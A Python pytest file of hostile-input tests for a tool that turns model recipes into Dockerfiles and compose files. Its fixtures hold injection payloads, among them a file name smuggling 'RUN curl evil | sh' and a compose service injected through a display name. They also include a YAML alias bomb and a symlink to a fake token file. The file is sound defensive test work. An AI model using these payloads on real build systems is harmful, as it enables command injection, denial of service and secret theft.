"""Hostile recipes, round two (issue 18): names that come from the file system, links, alias bombs,
collisions, files that cannot be read, and numbers out of range. Each test is a probe that got through
before: every one is refused in one line naming file, field and value, the other recipes still generated,
and nothing written or read outside where it belongs."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from factory.base.errors import InputError
from factory.base.yamlfile import read_yaml
from tests.conftest import ROOT, recipes_tree, small_recipe
from tests.hostile_trees import Ran, in_process

Change = Callable[[dict[str, Any]], None]
GOOD = "acme/Good-8B"  # a sound recipe beside every bad one: it must still be generated


def _good() -> dict[str, Any]:
    recipe = small_recipe(meta={"title": "Good", "slug": "good", "hardware": {}})
    recipe["model"] = {**recipe["model"], "model_id": "acme/Good-8B"}
    return recipe


def _tree(tmp_path: Path, recipes: dict[str, dict[str, Any]] | None = None) -> Path:
    return recipes_tree(tmp_path / "recipes", {GOOD: _good(), **(recipes or {})})


def _generate(tmp_path: Path, recipes: Path) -> tuple[Ran, Path, list[str]]:
    out = tmp_path / "out"
    result = in_process(ROOT, "generate", "--recipes", str(recipes), "--out", str(out))
    assert "Traceback" not in result.stderr, result.stderr
    bad = [line for line in result.stderr.splitlines() if line.startswith("bad recipe:")]
    return result, out, bad


def _all_text(folder: Path) -> str:
    return "\n".join(path.read_text(errors="replace") for path in sorted(folder.rglob("*")) if path.is_file())


def _only_bad(tmp_path: Path, recipes: Path, *expected: str) -> tuple[Path, str]:
    """generate: exit 1, exactly one `bad recipe:` line holding every expected text, the good recipe's
    files written."""
    result, out, bad = _generate(tmp_path, recipes)
    assert result.returncode == 1, result.stdout + result.stderr
    assert len(bad) == 1, result.stderr
    for text in expected:
        assert text in bad[0], bad[0]
    assert (out / "compose" / "good").is_dir(), result.stderr  # (images need a lock; compose does not)
    return out, bad[0]


def _refused(tmp_path: Path, change: Change, field: str, value: str) -> str:
    recipe = small_recipe()
    change(recipe)
    out, line = _only_bad(tmp_path, _tree(tmp_path, {"acme/Small-8B": recipe}), "models/acme/Small-8B.yaml")
    assert field in line and ascii(value) in line, line
    assert not (out / "images" / "small").exists() and not (out / "compose" / "small").exists()
    return line


# 1. Names from the file system -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("recipe_id", "shown"),
    [
        ("acme/Evil\nRUN curl evil | sh", "Evil\\nRUN curl evil | sh"),
        ("acme\u2028name: injected/Evil", "acme\\u2028name: injected"),
        ("acme/Evil 8B", "Evil 8B"),
    ],
    ids=["newline-in-file-name", "line-separator-in-org-folder", "space-in-file-name"],
)
def test_a_recipe_file_or_folder_name_that_would_add_a_line_to_generated_files_is_refused(
    tmp_path: Path, recipe_id: str, shown: str
) -> None:
    evil = small_recipe(meta={"title": "Evil", "slug": "evil", "hardware": {}})
    out, line = _only_bad(tmp_path, _tree(tmp_path, {recipe_id: evil}), shown, "name")
    assert "\n" not in line
    assert not (out / "images" / "evil").exists()
    assert "RUN curl" not in _all_text(out) and "injected" not in _all_text(out)


# 2. A trailing newline passes no check ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field", "value"),
    [
        (lambda r: r["meta"].update(slug="small\n"), "meta.slug", "small\n"),
        (lambda r: r.update(variants={"default\n": {"precision": "bf16"}}), "variants", "default\n"),
        (lambda r: r["model"].update(model_id="acme/Small-8B\n"), "model.model_id", "acme/Small-8B\n"),
        (
            lambda r: r.update(hardware_overrides={"nvidia": {"extra_env": {"A\n": "x"}}}),
            "hardware_overrides.nvidia.extra_env",
            "A\n",
        ),
        (lambda r: r["model"].update(revision="main\nRUN id"), "model.revision", "main\nRUN id"),
        (lambda r: r["model"].update(revision="main\x85"), "model.revision", "main\x85"),
        (
            lambda r: r["model"].update(base_args=["--served-model-name=a\u2028b"]),
            "model.base_args[0]",
            "--served-model-name=a\u2028b",
        ),
    ],
    ids=["slug", "variant", "model-id", "env-name", "revision-newline", "revision-c1", "arg-u2028"],
)
def test_a_name_or_value_ending_in_a_line_break_is_refused(
    tmp_path: Path, change: Change, field: str, value: str
) -> None:
    _refused(tmp_path, change, field, value)


def _long_model_id_without_slug(recipe: dict[str, Any]) -> None:
    del recipe["meta"]["slug"]
    recipe["model"]["model_id"] = "acme/" + "b" * 300


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (lambda r: r["meta"].update(slug="a" * 300), "meta.slug"),
        (_long_model_id_without_slug, "model.model_id"),
    ],
    ids=["slug", "model-id-as-slug"],
)
def test_a_name_too_long_for_a_folder_is_one_line_not_a_traceback(
    tmp_path: Path, change: Change, field: str
) -> None:
    recipe = small_recipe()
    change(recipe)
    _, line = _only_bad(tmp_path, _tree(tmp_path, {"acme/Small-8B": recipe}), "models/acme/Small-8B.yaml")
    assert field in line and "at most 128 characters" in line, line


def test_a_value_ending_in_a_newline_is_escaped_by_the_fast_path() -> None:
    from factory.base.templating import json_string

    assert json_string("x\n") == '"x\\n"'
    assert json_string("plain") == '"plain"'


# 3. Links are not followed ------------------------------------------------------------------------------


def test_a_link_in_a_bundled_model_folder_is_refused_and_its_target_never_copied(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret.env"
    secret.write_text("HF_TOKEN=hf_secret_do_not_ship\n")
    recipes = _tree(tmp_path, {"acme/Small-8B": small_recipe()})
    model = recipes / "models" / "acme" / "Small-8B"
    model.mkdir()
    (model / "config.json").write_text("{}")
    (model / "tokens.env").symlink_to(secret)
    out, _line = _only_bad(tmp_path, recipes, "Small-8B/tokens.env", "symlink")
    assert "hf_secret_do_not_ship" not in _all_text(out)


@pytest.mark.parametrize("what", ["recipe-file", "org-folder"])
def test_a_recipe_that_is_a_link_out_of_the_tree_is_not_read(tmp_path: Path, what: str) -> None:
    outside = tmp_path / "elsewhere" / "acme"
    outside.mkdir(parents=True)
    (outside / "Small-8B.yaml").write_text(yaml.safe_dump(small_recipe()))
    recipes = _tree(tmp_path)
    if what == "recipe-file":
        (recipes / "models" / "acme" / "Small-8B.yaml").symlink_to(outside / "Small-8B.yaml")
    else:
        (recipes / "models" / "other").symlink_to(outside)
    out, _ = _only_bad(tmp_path, recipes, "symlink")
    assert not (out / "images" / "small").exists()


def test_a_strategy_file_that_is_a_link_is_not_read(tmp_path: Path) -> None:
    recipes = _tree(tmp_path)
    strategy = recipes / "strategies" / "single_node_tp.yaml"
    moved = tmp_path / "single_node_tp.yaml"
    strategy.rename(moved)
    strategy.symlink_to(moved)
    result, _, _ = _generate(tmp_path, recipes)
    assert result.returncode != 0
    assert "single_node_tp.yaml" in result.stderr and "symlink" in result.stderr, result.stderr


def test_generate_never_writes_through_a_linked_output_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "out"
    (out / "compose").mkdir(parents=True)
    (out / "compose" / "good").symlink_to(outside)
    result = in_process(ROOT, "generate", "--recipes", str(_tree(tmp_path)), "--out", str(out))
    assert result.returncode != 0, result.stderr
    assert "compose/good" in result.stderr and "symlink" in result.stderr
    assert "Traceback" not in result.stderr
    assert list(outside.iterdir()) == [], "nothing written outside the output folder"


def test_generate_never_writes_its_cache_through_a_link(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / ".factory-cache").symlink_to(outside)
    result = in_process(ROOT, "generate", "--recipes", str(_tree(tmp_path)), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert (out / "compose" / "good").is_dir()
    assert list(outside.iterdir()) == [], "the cache is skipped, not written outside the output folder"


# 4. Reading is bounded --------------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{previous}'] * 9)}]\n"
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_an_alias_bomb_is_refused_before_it_expands(tmp_path: Path) -> None:
    path = tmp_path / "bomb.yaml"
    path.write_text(BOMB)
    with pytest.raises(InputError) as caught:
        read_yaml(path)
    # 28 nodes as written: the top mapping, its 9 keys, the first list and its 9 scalars, 8 lists of aliases.
    # Expanded, each list stands for 1 + 9 times the one before it; the top adds itself and its keys.
    lists = [10]
    for _ in range(8):
        lists.append(1 + 9 * lists[-1])
    expanded = 1 + 9 + sum(lists)
    assert f"expand 28 nodes to {expanded}" in str(caught.value)
    assert "alias" in str(caught.value)


def test_an_alias_bomb_in_a_recipe_is_one_line_and_the_others_are_generated(tmp_path: Path) -> None:
    recipes = _tree(tmp_path, {"acme/Small-8B": small_recipe()})
    path = recipes / "models" / "acme" / "Small-8B.yaml"
    # Under meta, whose unknown keys are kept: read, it expands. Seven levels (4.8 million scalars), not nine,
    # so that the code before the guard finished in seconds instead of using gigabytes.
    small_bomb = "\n".join(BOMB.splitlines()[:7])
    data = yaml.safe_load(path.read_text())
    data["meta"]["bomb"] = "PLACEHOLDER"
    text = yaml.safe_dump(data, sort_keys=False)
    nested = "".join(f"\n    {line}" for line in small_bomb.splitlines())
    path.write_text(text.replace("bomb: PLACEHOLDER", f"bomb:{nested}"))
    _, line = _only_bad(tmp_path, recipes, "models/acme/Small-8B.yaml", "alias")
    assert len(line) < 500


def test_anchors_and_merge_keys_still_read(tmp_path: Path) -> None:
    text = (
        "base: &base {precision: bf16, vram_minimum_gb: 20}\n"
        "variants:\n  default:\n    <<: *base\n  fp8:\n    <<: *base\n    precision: fp8\n"
    )
    path = tmp_path / "merge.yaml"
    path.write_text(text)
    data = read_yaml(path)
    assert data["variants"]["fp8"] == {"precision": "fp8", "vram_minimum_gb": 20}
    assert data["variants"]["default"] == {"precision": "bf16", "vram_minimum_gb": 20}


def test_a_key_written_twice_is_still_refused_beside_a_merge_key(tmp_path: Path) -> None:
    path = tmp_path / "twice.yaml"
    path.write_text("base: &b {x: 1}\nthing:\n  <<: *b\n  y: 1\n  y: 2\n")
    with pytest.raises(InputError, match="appears twice"):
        read_yaml(path)


def test_error_lines_quote_a_capped_escaped_value() -> None:
    error = InputError("bad", file="f.yaml", field="x", value="\u212a" + "a" * 100_000)
    text = str(error)
    assert len(text) < 500
    assert "\\u212a" in text and "100001 characters" in text


# 5. Identity --------------------------------------------------------------------------------------------


def test_two_recipes_claiming_one_slug_are_both_refused_naming_both(tmp_path: Path) -> None:
    recipes = _tree(tmp_path, {"acme/Small-8B": small_recipe()})
    result, out, bad = _generate(tmp_path, recipes)
    assert result.returncode == 0, result.stderr
    before = {p: p.read_bytes() for p in (out / "images" / "small").rglob("*") if p.is_file()}
    twin = small_recipe()
    twin["model"] = {**twin["model"], "model_id": "other/Twin-8B"}
    (recipes / "models" / "other").mkdir()
    (recipes / "models" / "other" / "Twin.yaml").write_text(yaml.safe_dump(twin))
    result, out, bad = _generate(tmp_path, recipes)
    assert result.returncode == 1
    assert len(bad) == 2, result.stderr
    for line in bad:
        assert "'small'" in line and "acme/Small-8B.yaml" in line and "other/Twin.yaml" in line, line
    after = {p: p.read_bytes() for p in (out / "images" / "small").rglob("*") if p.is_file()}
    assert after == before, "the files each generated before are kept, untouched"
    assert (out / "compose" / "good").is_dir()


def test_a_slug_with_a_letter_that_lower_cases_to_ascii_is_refused(tmp_path: Path) -> None:
    # U+212A KELVIN SIGN lower-cases to "k": "\u212aimi" became another recipe's "kimi"
    _refused(tmp_path, lambda r: r["meta"].update(slug="\u212aimi"), "meta.slug", "\u212aimi")


def _two_models(tmp_path: Path) -> Path:
    one = small_recipe(meta={"title": "One", "slug": "one", "hardware": {}})
    two = small_recipe(meta={"title": "Two", "slug": "two", "hardware": {}})
    two["model"] = {**two["model"], "model_id": "ACME/small-8b"}
    two["variants"] = {
        "default": {"precision": "bf16"},
        "fp8": {"precision": "fp8", "model_id": "acme/Two-FP8"},
    }
    return recipes_tree(tmp_path / "recipes", {"acme/One": one, "acme/Two": two})


def _show(recipes: Path, tmp_path: Path, name: str) -> Ran:
    out = tmp_path / "out"
    return in_process(ROOT, "show", name, "--hardware", "h200", "--recipes", str(recipes), "--out", str(out))


def test_a_model_id_that_differs_only_in_case_does_not_take_another_recipes_place(tmp_path: Path) -> None:
    recipes = _two_models(tmp_path)
    result = _show(recipes, tmp_path, "acme/Small-8B")
    assert result.returncode != 0, result.stdout
    assert (
        "more than one recipe" in result.stderr
        and "acme/One" in result.stderr
        and "acme/Two" in result.stderr
    )
    by_id = _show(recipes, tmp_path, "acme/two")
    assert by_id.returncode == 0 and by_id.stdout.startswith("# ACME/small-8b"), by_id.stderr


def test_a_look_alike_name_reaches_no_recipe(tmp_path: Path) -> None:
    recipes = recipes_tree(tmp_path / "recipes", {"acme/Kimi": small_recipe()})
    assert _show(recipes, tmp_path, "ACME/KIMI").returncode == 0, "ASCII capitals fold"
    result = _show(recipes, tmp_path, "acme/\u212aimi")  # a Kelvin sign lower-cases to "k"
    assert result.returncode != 0 and "no recipe for this model" in result.stderr, result.stdout
    assert "\\u212aimi" in result.stderr, "the error shows the look-alike escaped"


def test_a_variants_model_id_selects_that_variant(tmp_path: Path) -> None:
    result = _show(_two_models(tmp_path), tmp_path, "acme/two-fp8")
    assert result.returncode == 0, result.stderr
    assert "variant `fp8`" in result.stdout and "vllm serve acme/Two-FP8" in result.stdout


# 6. Every way a file can be unreadable is one line ------------------------------------------------------


def _make_folder(path: Path) -> None:
    path.mkdir()


def _make_dangling_link(path: Path) -> None:
    path.symlink_to(path.parent / "gone.yaml")


def _write(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(text)


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (_make_folder, "not a regular file"),
        (_make_dangling_link, "symlink"),
        (_write("? [a, b]\n: 1\n"), "a mapping key that is itself a list or a mapping"),
        (_write("meta: " + "[" * 900 + "]" * 900 + "\n"), "nested deeper than"),
        (_write("a: &a [*a]\n"), "nested deeper than"),
    ],
    ids=["folder", "dangling-link", "unhashable-key", "deep-nesting", "self-alias"],
)
def test_every_unreadable_recipe_file_is_one_line(
    tmp_path: Path, make: Callable[[Path], None], expected: str
) -> None:
    recipes = _tree(tmp_path)
    make(recipes / "models" / "acme" / "Broken.yaml")
    _only_bad(tmp_path, recipes, "models/acme/Broken.yaml", expected)


# 7. Numbers in range, values short enough -------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field", "value"),
    [
        (lambda r: r["model"].update(base_args=["--port", "70000"]), "model.base_args[0]", "70000"),
        (lambda r: r["model"].update(base_args=["--port=0"]), "model.base_args[0]", "0"),
        (
            lambda r: r["model"].update(base_args=["--tensor-parallel-size=0"]),
            "model.base_args[0]",
            "0",
        ),
        (lambda r: r["variants"]["default"].update(tp=0), "variants.default.tp", "0"),
        (lambda r: r["variants"]["default"].update(tp=-2), "variants.default.tp", "-2"),
        (lambda r: r["variants"]["default"].update(tp=True), "variants.default.tp", "True"),
        (lambda r: r.update(omni={"port": 70000}), "omni.port", "70000"),
    ],
    ids=["port-flag", "port-flag-equals", "tp-flag-zero", "tp-zero", "tp-negative", "tp-true", "omni-port"],
)
def test_ports_and_counts_out_of_range_are_refused(
    tmp_path: Path, change: Change, field: str, value: str
) -> None:
    recipe = small_recipe()
    change(recipe)
    _out, line = _only_bad(tmp_path, _tree(tmp_path, {"acme/Small-8B": recipe}), "models/acme/Small-8B.yaml")
    assert field in line and value in line, line


def test_a_catalog_port_out_of_range_is_refused(scratch: Path) -> None:
    catalog = scratch / "catalog" / "hardware.yaml"
    catalog.write_text(catalog.read_text().replace("  port: 8000", "  port: 70000", 1))
    result = in_process(scratch, "generate")
    assert result.returncode != 0
    assert "hardware.yaml" in result.stderr and "port" in result.stderr and "70000" in result.stderr


def test_a_value_too_long_for_a_dockerfile_line_is_refused(tmp_path: Path) -> None:
    value = "x" * 70_000
    line = _refused(
        tmp_path,
        lambda r: r.update(hardware_overrides={"nvidia": {"extra_env": {"A": value}}}),
        "hardware_overrides.nvidia.extra_env.A",
        value[:200],
    )
    assert "70000 characters" in line and len(line) < 800


def test_a_strategy_display_name_that_would_add_a_line_to_compose_files_is_refused(tmp_path: Path) -> None:
    """A strategy's display name heads every compose file made with it: the tree's shared files are other
    people's input too."""
    recipes = _tree(tmp_path)
    strategy = recipes / "strategies" / "single_node_tp.yaml"
    data = yaml.safe_load(strategy.read_text())
    data["display_name"] = "Tensor Parallel\nservices: {evil: {image: evil}}"
    strategy.write_text(yaml.safe_dump(data, sort_keys=False))
    result, out, _ = _generate(tmp_path, recipes)
    assert result.returncode != 0
    assert "single_node_tp.yaml" in result.stderr and "display_name" in result.stderr, result.stderr
    assert not out.exists() or "evil" not in _all_text(out)


def test_flags_that_add_up_past_a_dockerfile_line_are_refused(tmp_path: Path) -> None:
    """Each under the limit for one value, together over what one Dockerfile line (the image's CMD) holds."""
    flags = [f"--served-model-name=m{index}-" + "x" * 3000 for index in range(25)]
    recipe = small_recipe()
    recipe["model"]["base_args"] = flags
    _, line = _only_bad(tmp_path, _tree(tmp_path, {"acme/Small-8B": recipe}), "models/acme/Small-8B.yaml")
    assert "model.base_args" in line and "Dockerfile line" in line, line
